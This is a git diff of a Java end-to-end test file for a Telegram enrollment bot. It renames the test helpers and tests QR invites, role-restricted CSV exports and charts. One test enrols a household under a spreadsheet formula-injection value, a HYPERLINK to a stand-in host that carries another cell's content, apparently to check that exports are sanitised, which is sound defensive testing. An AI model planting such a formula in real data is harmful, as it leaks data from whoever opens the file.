@@ -19,9 +19,9 @@ import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.Test;
 
 import org.danvan.shared.Role;
-import org.danvan.support.BotMessage;
-import org.danvan.support.FakeTelegram;
-import org.danvan.support.FakeUser;
+import org.danvan.sandbox.botapi.BotMessage;
+import org.danvan.sandbox.botapi.BotApiStandIn;
+import org.danvan.sandbox.botapi.StandInUser;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
@@ -34,15 +34,15 @@ class EnrollmentFilesTest extends EnrollmentEndToEndTest {
 
 	@Test
 	void theInviteQrCodeOpensEnrollmentStraightIntoTheGroup() throws Exception {
-		FakeUser coordinator = member(Role.COORDINATOR, "kg-tkh");
+		StandInUser coordinator = member(Role.COORDINATOR, "kg-tkh");
 		String code = createGroup(coordinator, "Khanh Hoa", "Khánh Hòa tổ 3");
 		coordinator.press(coordinator.awaitText("Group Khánh Hòa tổ 3 ·"), "Invite (QR)");
 		BotMessage qr = coordinator.await((m) -> m.media() != null && m.media().startsWith("photo:group-"), "the QR");
-		String link = "https://t.me/" + FakeTelegram.BOT_USERNAME + "?start=grp-" + code;
+		String link = "https://t.me/" + BotApiStandIn.BOT_USERNAME + "?start=grp-" + code;
 		assertThat(decodeQr(telegram.file(qr).bytes())).isEqualTo(link);
 		assertThat(coordinator.awaitText("print this code").text()).contains(link);
 
-		FakeUser villager = villager("Minh", null);
+		StandInUser villager = villager("Minh", null);
 		villager.send("/start grp-" + code);
 		villager.awaitText("You are joining the group Khánh Hòa tổ 3 of Khanh Hoa");
 		villager.send("Đặng Văn Minh");
@@ -60,14 +60,14 @@ class EnrollmentFilesTest extends EnrollmentEndToEndTest {
 
 	@Test
 	void theCsvFilesAreUtf8WithBomAndShowPhonesToCoordinatorsOnly() throws Exception {
-		FakeUser coordinator = member(Role.COORDINATOR, "kg-pm");
+		StandInUser coordinator = member(Role.COORDINATOR, "kg-pm");
 		createGroup(coordinator, "Tra Pho", "Trà Phố Đoàn Kết");
-		FakeUser villager = villager("Bình", "kg-pm-tra-pho");
+		StandInUser villager = villager("Bình", "kg-pm-tra-pho");
 		enroll(villager, "Phạm Thị Bình", 7, "Trà Phố Đoàn Kết", "+84 913 000 404");
 		coordinator.press(coordinator.awaitText("Head of household: Phạm Thị Bình"), "Approve");
 		villager.awaitText("Good news");
 
-		FakeUser prankster = villager("Tý", "kg-pm-tra-pho");
+		StandInUser prankster = villager("Tý", "kg-pm-tra-pho");
 		enroll(prankster, "=HYPERLINK(\"http://x.example/?\"&H2,\"Open\")", 1, "Trà Phố Đoàn Kết", null);
 		coordinator.press(coordinator.awaitText("Head of household: =HYPERLINK"), "Approve");
 		prankster.awaitText("Good news");
@@ -87,7 +87,7 @@ class EnrollmentFilesTest extends EnrollmentEndToEndTest {
 		assertThat(groups)
 			.anySatisfy((row) -> assertThat(row.values()).startsWith("Trà Phố Đoàn Kết").contains("Tra Pho", "2", "8"));
 
-		FakeUser officer = member(Role.OFFICER, "kg-pm");
+		StandInUser officer = member(Role.OFFICER, "kg-pm");
 		officer.send("/export enrollment");
 		List<CSVRecord> seenByOfficer = csv(documents(officer, 2).get("households-kg-pm.csv"));
 		assertThat(seenByOfficer.get(0).values()).doesNotContain("Phone");
@@ -100,7 +100,7 @@ class EnrollmentFilesTest extends EnrollmentEndToEndTest {
 		long officeChat = -1_001_600L;
 		coordinator.addBotToGroup(officeChat, "Commune office");
 		coordinator.sendCommandInGroup(officeChat, "/export enrollment");
-		FakeUser.awaitTrue(
+		StandInUser.awaitTrue(
 				() -> telegram.messages(officeChat)
 					.stream()
 					.anyMatch((m) -> m.text().contains("Please ask me this in your private chat")),
@@ -110,7 +110,7 @@ class EnrollmentFilesTest extends EnrollmentEndToEndTest {
 
 	@Test
 	void theChartIsAPngWithABarPairPerVillage() throws Exception {
-		FakeUser coordinator = member(Role.COORDINATOR, "kg-vd");
+		StandInUser coordinator = member(Role.COORDINATOR, "kg-vd");
 		coordinator.send("/enrollment");
 		coordinator.press(coordinator.awaitText("Vinh Dieu\n"), "Chart");
 		BotMessage chart = coordinator.await((m) -> m.media() != null && m.media().equals("photo:enrollment-kg-vd.png"),
@@ -120,8 +120,8 @@ class EnrollmentFilesTest extends EnrollmentEndToEndTest {
 		assertThat(coordinator.awaitText("Enrollment in Vinh Dieu").text()).contains("2 of 2 villages");
 	}
 
-	private static Map<String, byte[]> documents(FakeUser user, int count) {
-		FakeUser.awaitTrue(() -> user.messages().stream().filter(EnrollmentFilesTest::isDocument).count() >= count,
+	private static Map<String, byte[]> documents(StandInUser user, int count) {
+		StandInUser.awaitTrue(() -> user.messages().stream().filter(EnrollmentFilesTest::isDocument).count() >= count,
 				count + " documents");
 		Map<String, byte[]> files = new java.util.HashMap<>();
 		user.messages()
